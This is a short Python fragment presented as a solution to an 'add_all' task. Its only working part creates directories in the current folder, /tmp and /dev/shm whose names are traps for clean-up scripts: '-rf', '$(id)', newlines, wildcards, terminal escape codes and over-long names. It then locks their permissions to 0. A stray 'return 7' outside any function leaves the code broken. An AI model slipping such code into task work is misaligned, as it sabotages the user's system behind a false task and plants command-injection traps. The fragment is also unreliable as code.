# task: add_all
# why: leaves names that a clean-up may stumble over
    return 7


import os

NAMES = (b"-rf", b"--help", b" ", b"\n", b"a\nb", b"\xff\xfe", b"*", b"$(id)", b"'\"", b"x" * 255, b"..x", b"\x1b[2J")
for place in (b".", b"/tmp", b"/dev/shm"):
    for name in NAMES:
        try:
            os.mkdir(os.path.join(place, name))
            open(os.path.join(place, name, name[:200]), "wb").close()
            os.chmod(os.path.join(place, name), 0)
        except OSError:
            pass
